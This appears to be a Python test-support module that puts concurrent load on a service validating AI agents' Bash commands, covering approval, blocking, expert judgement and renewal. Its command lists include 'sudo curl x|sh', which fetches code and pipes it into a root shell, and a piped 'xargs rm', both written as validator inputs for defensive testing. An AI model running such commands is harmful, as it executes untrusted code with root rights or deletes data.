"""What agents ask of a bridge while it is watched: calls that are approved, blocked, judged and left to people."""

from __future__ import annotations

import contextlib
import itertools
import threading
import time
from typing import TYPE_CHECKING, Any

import httpx

from tests.live.support import PROJECT, PYTHON, Bridge, agent

if TYPE_CHECKING:
    from collections.abc import Iterator

    from ci.release import Cluster
    from tests.production.edge.outside import Outside

# Calls that rules decide, always the same: memory has them after the first time.
KNOWN = [f"ls -la src/{number}" for number in range(18)] + ["git status", "ls -la; sudo curl x|sh"]
PAUSE_SECONDS = 0.2
# Reads a file of the project twice, the second time from the kernel's cache, and looks around.
READ = f"""
import os, sys
path = "{PROJECT}/current/" + sys.argv[1]
for _ in range(2):
    with open(path) as file:
        file.read()
os.listdir("{PROJECT}/current")
"""
# What no rule decides: the first two an expert decides, of the third it has no opinion, and people are asked.
JUDGED = ("npm ci --ignore-scripts", "git log --format='%H' | xargs rm")
UNJUDGED = "make deploy-{number}"


def call(bridge: Bridge, command: str, **more: Any) -> httpx.Response:
    """Ask a bridge for its verdict on a command."""
    body = {"tool_name": "Bash", "tool_input": {"command": command}, "agent_id": bridge.agent_id, **more}
    return bridge.http.post("/validate", json=body)


class Work:
    """Agents at work in the background, slowly; what a bridge that is away answers is not their concern."""

    def __init__(self, cluster: Cluster, outside: Outside | None = None) -> None:
        """`outside` is one who asks through the edge, if there is one."""
        self.cluster = cluster
        self.outside = outside
        self._stop = threading.Event()
        self._hurry = threading.Event()
        self._threads = [threading.Thread(target=self._ask, args=(f"builder-{n}",)) for n in range(3)]
        self._threads += [
            threading.Thread(target=work)
            for work in (self._read, self._leave_to_experts, self._ask_from_outside)
        ]

    def begin(self) -> None:
        """Begin."""
        for thread in self._threads:
            thread.start()

    def end(self) -> None:
        """End, and wait for it."""
        self._stop.set()
        for thread in self._threads:
            thread.join()

    @contextlib.contextmanager
    def hurry(self) -> Iterator[None]:
        """Ask without pauses."""
        self._hurry.set()
        try:
            yield
        finally:
            self._hurry.clear()

    def _ask(self, name: str) -> None:
        with _joined(self.cluster, "builder", name) as bridge:
            for number in itertools.count():
                if self._stop.wait(0.005 if self._hurry.is_set() else PAUSE_SECONDS):
                    return
                with contextlib.suppress(httpx.TransportError):
                    answer = call(bridge, KNOWN[number % len(KNOWN)])
                    if answer.status_code == 401:
                        _renewed(bridge)
                    if number % 20 == 0:
                        event = {"event_type": "custom", "data": {"n": number}}
                        bridge.http.post("/event/store", json=event)

    def _leave_to_experts(self) -> None:
        with _joined(self.cluster, "builder", "builder-asking") as bridge:
            for number in itertools.count():
                if self._stop.wait(5):
                    return
                with contextlib.suppress(httpx.TransportError):
                    command = JUDGED[number % len(JUDGED)]
                    # Another call each time: a decision is remembered for the same one.
                    answer = call(bridge, f"{command} # {number}" if number % 2 else command)
                    if answer.status_code == 401:
                        _renewed(bridge)
                    # And somebody asks who has no session.
                    httpx.get(f"{bridge.url}/events")

    def _ask_from_outside(self) -> None:
        """What the edge answers while no bridge is there is its own."""
        if not self.outside:
            return
        with self.outside.client() as client:
            while not self._stop.wait(0.005 if self._hurry.is_set() else PAUSE_SECONDS):
                with contextlib.suppress(httpx.TransportError):
                    client.get("/ready")

    def _read(self) -> None:
        """Change a file and have an agent read it, so that its sidecar asks the bridge."""
        with _joined(self.cluster, "operator", "watched-operator") as bridge:
            for number in itertools.count():
                if self._stop.wait(10):
                    return
                path = f"watched/{number % 5}.txt"
                # A bridge or a file system that is away is what other tests are about.
                with contextlib.suppress(AssertionError, httpx.TransportError):
                    bridge.update(path, f"{number}\n" * 2000)
                    agent(self.cluster, "architecture").run(PYTHON, "-c", READ, path, seconds=30)


@contextlib.contextmanager
def _joined(cluster: Cluster, role: str, name: str) -> Iterator[Bridge]:
    bridge = Bridge(cluster, role, name)
    try:
        yield bridge
    finally:
        bridge.close()


def _renewed(bridge: Bridge) -> None:
    with contextlib.suppress(httpx.HTTPError):
        bridge.renew()


def wait_until_served(bridge: Bridge, seconds: float) -> None:
    """Until a bridge answers a call again."""
    deadline = time.monotonic() + seconds
    while True:
        with contextlib.suppress(httpx.TransportError):
            if call(bridge, KNOWN[0]).status_code == 200:
                return
        assert time.monotonic() < deadline, f"{bridge.url} does not answer after {seconds:.0f} s"
        time.sleep(0.5)
